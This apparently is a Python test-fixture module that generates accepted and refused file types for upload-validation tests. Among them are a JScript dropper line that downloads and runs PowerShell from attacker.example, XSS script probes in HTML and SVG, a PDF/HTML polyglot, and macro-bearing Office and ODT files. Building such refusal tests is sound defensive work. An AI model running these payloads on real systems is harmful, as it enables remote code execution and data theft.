"""Small real files of each accepted and refused type, made on the fly for upload tests."""

from __future__ import annotations

import io
import zipfile

from docx import Document
from fpdf import FPDF


def pdf(text: str = "Data protection impact assessment") -> bytes:
    document = FPDF()
    document.add_page()
    document.set_font("helvetica", size=12)
    document.multi_cell(0, 8, text)
    return bytes(document.output())


def docx(text: str = "Training certificate") -> bytes:
    document = Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def csv() -> bytes:
    return (
        b"operator,unit,completed_on\nA. Jansen,Forensics,2026-03-01\nB. Kovacs,Patrol,2026-03-02\n"
    )


def text() -> bytes:
    return b"Minutes of the oversight committee meeting.\nThe committee approved the pilot.\n"


def email() -> bytes:
    return (
        b"From: dpa@example.org\r\nTo: dpo@police.example\r\nSubject: Prior consultation\r\n"
        b"Date: Thu, 26 Nov 2026 10:00:00 +0000\r\nMessage-ID: <c1@example.org>\r\n\r\n"
        b"We acknowledge receipt of your consultation request.\r\n"
    )


def html() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def svg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.txt", "x")
    return buffer.getvalue()


def executable() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00>\x00" + b"\x00" * 200


# --- Dangerous by name or container (issue 12) ------------------------------------------------


def jscript() -> bytes:
    """A Windows Script Host JScript dropper: plain text to libmagic, a program to Windows."""
    return (
        b'var shell = new ActiveXObject("WScript.Shell");\r\n'
        b'shell.Run("powershell -nop -w hidden -c iwr http://attacker.example/x.ps1 | iex", 0);\r\n'
    )


def pdf_html_polyglot() -> bytes:
    """A real PDF that a browser renders as a page running a script when it is named .html."""
    body = pdf("Audit report")
    header, rest = body.split(b"\n", 1)
    return header + b"\n%<html><body><script>fetch('/api/evidence')</script></body></html>\n" + rest


def _rezip(
    source: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> bytes:
    """An office file with some parts replaced and others added, order kept."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            new.writestr(info, replace.get(info.filename, old.read(info.filename)))
        for name, data in add.items():
            new.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def docm(text: str = "Training certificate") -> bytes:
    """A macro-enabled Word document as Word writes one: macro content type and a VBA project."""
    source = docx(text)
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        types = archive.read("[Content_Types].xml")
        rels = archive.read("word/_rels/document.xml.rels")
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    ).replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    rels = rels.replace(
        b"</Relationships>",
        b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
        b'vbaProject" Target="vbaProject.bin"/></Relationships>',
    )
    return _rezip(
        source,
        replace={"[Content_Types].xml": types, "word/_rels/document.xml.rels": rels},
        add={"word/vbaProject.bin": ole2({"VBA/dir": b"\x01" * 16, "PROJECT": b'ID="{0}"'})},
    )


def xlsx(cell: str = "Operator training register") -> bytes:
    """A minimal Excel workbook, one sheet with one cell."""
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="Register" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{cell}</t></is></c></row>'
            "</sheetData></worksheet>"
        ),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def windows_program() -> bytes:
    """The start of a Windows executable: what an embedded .exe/.dll/.scr begins with."""
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
    )


def xlsx_with_embedded(name: str, data: bytes) -> bytes:
    """A workbook carrying an embedded object part (as Excel stores inserted objects)."""
    return _rezip(xlsx(), add={f"xl/embeddings/{name}": data})


def ole_package(payload: bytes = b"", filename: str = "invoice.exe") -> bytes:
    """An OLE Package object, the way Office embeds an arbitrary file (a program, a script)."""
    native = filename.encode() + b"\x00" + payload
    return ole2({"\x01Ole10Native": len(native).to_bytes(4, "little") + native})


def docx_with_embedded_workbook(workbook: bytes) -> bytes:
    """A Word document with an embedded workbook, as Word keeps a chart's data."""
    return _rezip(docx(), add={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook})


def odt(basic_module: bool = False) -> bytes:
    """An OpenDocument text, optionally with a LibreOffice Basic macro module."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr(
            "content.xml",
            '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office='
            '"urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.3">'
            "<office:body><office:text/></office:body></office:document-content>",
            compress_type=zipfile.ZIP_DEFLATED,
        )
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
            '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
            '<manifest:file-entry manifest:full-path="/" manifest:media-type='
            '"application/vnd.oasis.opendocument.text"/></manifest:manifest>',
            compress_type=zipfile.ZIP_DEFLATED,
        )
        if basic_module:
            archive.writestr(
                "Basic/Standard/Module1.xml",
                '<script:module script:name="Module1" script:language="StarBasic">'
                'Sub Main\n Shell("cmd.exe")\nEnd Sub</script:module>',
            )
    return buffer.getvalue()


# Compound File Binary (OLE2), the container of Office 97-2003 files, written by hand: 512-byte
# sectors, one FAT sector, every stream at least 4096 bytes so none goes to the mini stream.
_FREE, _END, _FATSECT, _NONE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def ole2(streams: dict[str, bytes]) -> bytes:
    """An OLE2 file holding ``streams`` ({"Storage/Stream": data}), storages made as needed."""
    entries = [{"name": "Root Entry", "type": 5, "kids": [], "data": b""}]
    paths: dict[tuple[str, ...], int] = {(): 0}
    for path, data in streams.items():
        parts = tuple(path.split("/"))
        for depth in range(1, len(parts) + 1):
            key = parts[:depth]
            if key in paths:
                continue
            is_stream = depth == len(parts)
            entries.append(
                {
                    "name": parts[depth - 1],
                    "type": 2 if is_stream else 1,
                    "kids": [],
                    "data": data.ljust(4096, b"\x00") if is_stream else b"",
                }
            )
            paths[key] = len(entries) - 1
            entries[paths[key[:-1]]]["kids"].append(paths[key])
    directory_sectors = -(-len(entries) // 4)
    next_sector = 1 + directory_sectors
    fat = [_FATSECT] + [i + 2 for i in range(directory_sectors - 1)] + [_END]
    for entry in entries:
        entry["start"], entry["size"] = _END, len(entry["data"])
        if entry["data"]:
            count = len(entry["data"]) // 512
            entry["start"] = next_sector
            fat += [next_sector + i + 1 for i in range(count - 1)] + [_END]
            next_sector += count
    assert len(fat) <= 128, "too much for one FAT sector"
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:34] = (0x3E).to_bytes(2, "little") + (3).to_bytes(2, "little") + b"\xfe\xff"
    header[30:34] = (9).to_bytes(2, "little") + (6).to_bytes(2, "little")
    fields = [(44, 1), (48, 1), (56, 4096), (60, _END), (64, 0), (68, _END), (72, 0), (76, 0)]
    for offset, value in fields:
        header[offset : offset + 4] = value.to_bytes(4, "little")
    header[80:512] = b"\xff" * 432
    siblings: dict[int, int] = {}
    for entry in entries:  # each storage's children chained as right siblings (all black)
        for this, after in zip(entry["kids"], entry["kids"][1:], strict=False):
            siblings[this] = after
    directory = bytearray()
    for index, entry in enumerate(entries):
        record = bytearray(128)
        name = (entry["name"] + "\x00").encode("utf-16-le")
        record[0 : len(name)] = name
        record[64:66] = len(name).to_bytes(2, "little")
        record[66], record[67] = entry["type"], 1
        record[68:72] = _NONE.to_bytes(4, "little")
        record[72:76] = siblings.get(index, _NONE).to_bytes(4, "little")
        record[76:80] = (entry["kids"][0] if entry["kids"] else _NONE).to_bytes(4, "little")
        record[116:120] = entry["start"].to_bytes(4, "little")
        record[120:124] = entry["size"].to_bytes(4, "little")
        directory += record
    directory = directory.ljust(directory_sectors * 512, b"\x00")
    fat_sector = b"".join(v.to_bytes(4, "little") for v in fat).ljust(512, b"\xff")
    data = b"".join(entry["data"] for entry in entries)
    return bytes(header) + fat_sector + bytes(directory) + data


def _biff(record: int, data: bytes = b"") -> bytes:
    return record.to_bytes(2, "little") + len(data).to_bytes(2, "little") + data


def xls(macro_sheet: bool = False) -> bytes:
    """An Excel 97-2003 workbook's container; ``macro_sheet`` adds an Excel 4.0 macro sheet."""
    sheets = [_biff(0x0085, b"\x00" * 4 + b"\x00\x00" + b"\x05\x00Sheet")]
    if macro_sheet:
        sheets.append(_biff(0x0085, b"\x00" * 4 + b"\x00\x01" + b"\x06\x00Macro1"))
    globals_ = _biff(0x0809, b"\x00\x06\x05\x00" + b"\x00" * 12) + b"".join(sheets) + _biff(0x0A)
    return ole2({"Workbook": globals_})


def doc(streams: dict[str, bytes] | None = None) -> bytes:
    """A Word 97-2003 document's container, with extra streams (macros, embedded objects)."""
    return ole2(
        {"WordDocument": b"\xec\xa5\xc1\x00" + b"\x00" * 60, "1Table": b"\x00", **(streams or {})}
    )
